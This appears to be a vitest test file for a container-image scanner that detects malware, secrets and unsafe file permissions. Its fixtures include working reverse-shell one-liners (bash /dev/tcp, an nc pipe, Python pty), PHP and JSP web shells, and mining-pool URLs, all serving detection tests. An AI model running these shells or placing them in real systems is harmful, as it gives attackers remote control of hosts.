import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { memoryContents } from '../../test/fakes/memory-contents.ts';
import type { Observation } from '../model/index.ts';
import { createExaminer } from './content-examiner.ts';
import { inspectImage } from './inspect-image.ts';
import { observe } from './observe.ts';
import { redactAll } from './redact-all.ts';
import { compileYaraRules } from './yara-rules.ts';

async function look(
  path: string,
  content: string | Buffer,
  options: Parameters<typeof createExaminer>[0] = {},
  mode = 0o644,
) {
  const bytes = Buffer.from(content as string);
  const examiner = await createExaminer(options);
  const file = { path, size: bytes.length, mode };
  const wanted = examiner.wants(file);
  if (wanted === 0) return undefined;
  return examiner
    .examine(file, bytes.subarray(0, wanted))
    .map((note) => `${note.rule} ${note.severity}: ${note.detail}`);
}

const elf = (text: string) => Buffer.from(`\x7fELF\x02\x01\x01${'\0'.repeat(57)}${text}`, 'latin1');

describe('the examiner', () => {
  it.each([
    ['/run.sh', '#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n', 'inspect/malware/reverse-shell'],
    [
      '/run.sh',
      'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 >/tmp/f',
      'inspect/malware/reverse-shell',
    ],
    [
      '/x.py',
      's=socket.socket();s.connect(("a",1));os.dup2(s.fileno(),0);pty.spawn("sh")',
      'inspect/malware/reverse-shell',
    ],
    ['/a.php', '<?php system($_GET["cmd"]); ?>', 'inspect/malware/web-shell'],
    ['/a.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', 'inspect/malware/web-shell'],
    ['/c.json', '{"url":"stratum+tcp://pool.example.com:3333"}', 'inspect/malware/miner'],
    ['/etc/ld.so.preload', '/usr/lib/libhide.so\n', 'inspect/malware/preload'],
    ['/usr/bin/a', elf('xmrig donate-level'), 'inspect/malware/miner'],
    ['/usr/bin/a', elf('UPX! $Info: This file is packed with the UPX executable packer'), 'inspect/malware/packed'],
    ['/etc/shadow', `root:$6$abc$${'x'.repeat(80)}:1:0:9:7:::\nbin:*:1:0:9:7:::\n`, 'inspect/secret/password-hash'],
    ['/root/.docker/config.json', '{"auths":{"x":{"auth":"dXNlcjpwYXNz"}}}', 'inspect/secret/registry-credential'],
    ['/c.reg', Buffer.from('\ufeffpool=stratum+tcp://pool.example.com:3333\r\n', 'utf16le'), 'inspect/malware/miner'],
    [
      '/c.txt',
      Buffer.from('\ufeffpool=stratum+tcp://pool.example.com:3333', 'utf16le').swap16(),
      'inspect/malware/miner',
    ],
    ['/root/.netrc', 'machine x.example login me password s3cr3tpw', 'inspect/secret/password'],
    ['/root/.pgpass', 'db:5432:app:me:s3cr3tpw', 'inspect/secret/password'],
    ['/app/.env.production', 'DB_PASSWORD=hunter2secret', 'inspect/secret/password'],
  ])('sees what is in %s', async (path, content, rule) => {
    expect((await look(path, content))?.map((found) => found.split(' ')[0])).toEqual([rule]);
  });

  it.each([
    ['/run.sh', '#!/bin/sh\nexec "$@" # bash -i is for people\nnc -z db 5432 && exit\n'],
    ['/a.php', '<?php $x = $_GET["page"]; echo htmlspecialchars($x); ?>'],
    ['/etc/ld.so.preload', '                    \n'],
    ['/etc/shadow', 'root:*:19000:0:99999:7:::\nbin:!:19000:0:99999:7:::\n'],
    ['/usr/bin/a', elf('just a program that reads README about xmrig')],
  ])('sees nothing in %s', async (path, content) => {
    expect(await look(path, content)).toEqual([]);
  });

  it('knows the test file that scanners are tried with', async () => {
    const eicar = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!'}$H+H*`;
    expect(await look('/eicar.com', eicar)).toEqual(['inspect/malware/test-file low: is it']);
  });

  it('passes over documentation', async () => {
    expect(await look('/usr/share/doc/x/README', 'postgres://a:s3cr3tpw@db/x')).toBeUndefined();
  });

  /** Of a file of any size, shown in pieces of that size. */
  async function follow(
    path: string,
    bytes: Buffer,
    piece: number,
    options: Parameters<typeof createExaminer>[0] = {},
  ) {
    const follower = (await createExaminer(options)).follow?.({ path, size: bytes.length, mode: 0o755 });
    let asks = true;
    let shown = 0;
    for (; asks && shown < bytes.length; shown += piece)
      asks = follower?.push(bytes.subarray(shown, shown + piece)) ?? false;
    const notes = follower?.end() ?? [];
    return { shown, found: 'unexamined' in notes ? [] : notes.map((note) => `${note.rule} ${note.detail}`) };
  }

  it('follows large files, whatever the pieces in which they come', async () => {
    const text = Buffer.alloc(3_000_000, 'just a line\n');
    const tokens = [0, 1, 1_048_576, 1_081_000, 2_999_900].map((at, index) => {
      const token = ['ghp', `_${'a1B2c3D4e5F6g7H8'.repeat(2)}xyz${index}`].join('');
      text.write(` ${token}\n`, at * (at === 1 ? 500_000 : 1));
      return token;
    });
    text.write('\nexec 5<>/dev/tcp/10.0.0.1/4444\n', 2_000_000);
    const program = Buffer.concat([elf('xmrig'), Buffer.alloc(2_000_000, 1), Buffer.from('donate-level')]);
    for (const piece of [100, 4096, 65_536, 1_048_576, 4_000_000]) {
      const { found } = await follow('/a', text, piece);
      expect(found).toHaveLength(tokens.length + 1);
      const lines = tokens.map((token) => text.subarray(0, text.indexOf(token)).toString().split('\n').length);
      expect(found.slice(0, -1)).toEqual(
        lines.map((line) => `inspect/secret/service-token GitHub token ghp_…, 40 characters, line ${line}`),
      );
      expect(found.at(-1)).toContain('inspect/malware/reverse-shell');
      expect((await follow('/a', program, piece)).found).toEqual(['inspect/malware/miner is XMRig or made of it']);
    }
  });

  it('asks for no more of what is neither text nor program, but for its digest', async () => {
    const data = Buffer.alloc(3_000_000);
    expect(await follow('/data', data, 100_000)).toEqual({ shown: 100_000, found: [] });
    const badDigests = new Map([[createHash('sha256').update(data).digest('hex'), 'Bad.Data']]);
    expect(await follow('/data', data, 100_000, { badDigests })).toEqual({
      shown: 3_000_000,
      found: ['inspect/malware/known-bad is Bad.Data'],
    });
  });

  it('finds known-bad files by their digest', async () => {
    const bad = elf('bad bad bad bad');
    const badDigests = new Map([[createHash('sha256').update(bad).digest('hex'), 'Bad.Thing']]);
    expect(await look('/usr/lib/x.so', bad, { badDigests })).toEqual([
      'inspect/malware/known-bad critical: is Bad.Thing',
    ]);
  });

  it('holds programs and scripts against rules of the user', async () => {
    const text = 'rule evil : apt { meta: severity = "Critical" strings: $a = "evil plan" condition: $a }';
    const yara = [{ name: 'my.yar', text }];
    const expected = ['inspect/malware/yara critical: evil of my.yar (apt)'];
    expect(await look('/usr/bin/a', elf('an evil plan'), { yara })).toEqual(expected);
    expect(await look('/a', '#!/bin/sh\necho evil plan', { yara })).toEqual(expected);
    expect(await look('/notes.txt', 'the evil plan of the movie', { yara })).toEqual([]);
  });

  it.each([
    [
      'that cannot be compiled',
      '\n\nrule a {\n condition: foo }',
      'bad.yar:4:13: unknown identifier `foo`: this identifier',
    ],
    ['that ends too soon', 'rule a { condition: true', 'bad.yar:1:24: syntax error: expecting'],
    ['that reads other files', 'include "/etc/passwd"', 'bad.yar:1:1: include statements not allowed'],
  ])('refuses a rule %s, naming file and line', async (_what, text, reason) => {
    const good = { name: 'good.yar', text: 'rule a { condition: true }' };
    await expect(compileYaraRules([good, { name: 'bad.yar', text }])).rejects.toMatchObject({
      code: 'bad-yara-rule',
      message: expect.stringContaining(reason),
    });
  });
});

describe('observations', () => {
  const note = {
    kind: 'observation',
    rule: 'inspect/malware/miner',
    severity: 'critical',
    confidence: 'likely',
    detail: 'x',
  };
  const config = {
    entrypoint: ['app', '--url=https://me:s3cr3tpw@x.example'],
    command: [],
    environment: ['DB_PASSWORD=hunter2secret', 'PATH=/bin'],
    exposedPorts: [],
    volumes: [],
    labels: { note: 'mysql://me:s3cr3tpw@db/x' },
    history: [{ createdBy: 'RUN NPM_TOKEN=abcdef123456 npm ci', emptyLayer: false }],
  };

  it('come from notes, configuration and modes, the worst first', () => {
    const contents = memoryContents(
      {
        '/open': { bytes: 'x', mode: 0o666 },
        '/tmp': { type: 'directory', mode: 0o1777 },
        '/spool': { type: 'directory', mode: 0o777 },
        '/dev/sda': { type: 'block-device', mode: 0o600 },
      },
      {
        config,
        identity: { imageId: `sha256:${'0'.repeat(64)}`, references: [] },
        notes: [{ path: '/x', layer: 0, isHidden: true, note }],
      },
    );
    const seen = observe(contents).items.map(({ rule, path = '', isHidden = false }) => `${rule} ${path} ${isHidden}`);
    expect(seen).toEqual([
      'inspect/malware/miner /x true',
      'inspect/secret/url-password  false',
      'inspect/secret/url-password  false',
      'inspect/secret/password  false',
      'inspect/secret/password  false',
      'inspect/mode/device /dev/sda false',
      'inspect/mode/world-writable /open false',
      'inspect/mode/world-writable /spool false',
    ]);
  });

  it('let no secret of the configuration into the facts', async () => {
    const facts = await inspectImage(memoryContents({}, { config }));
    const text = JSON.stringify(redactAll(facts));
    for (const secret of ['s3cr3tpw', 'hunter2secret', 'abcdef123456']) expect(text).not.toContain(secret);
    expect(text).toContain('[redacted]');
  });

  it('are bounded, and say how many there are', () => {
    const notes = Array.from({ length: 5000 }, (_, index) => ({ path: `/${index}`, layer: 0, isHidden: false, note }));
    const { items, more } = observe(memoryContents({}, { notes }));
    expect([items.length, more]).toEqual([1000, 4000]);
    expect((items[0] as Observation).path).toBe('/0');
  });
});
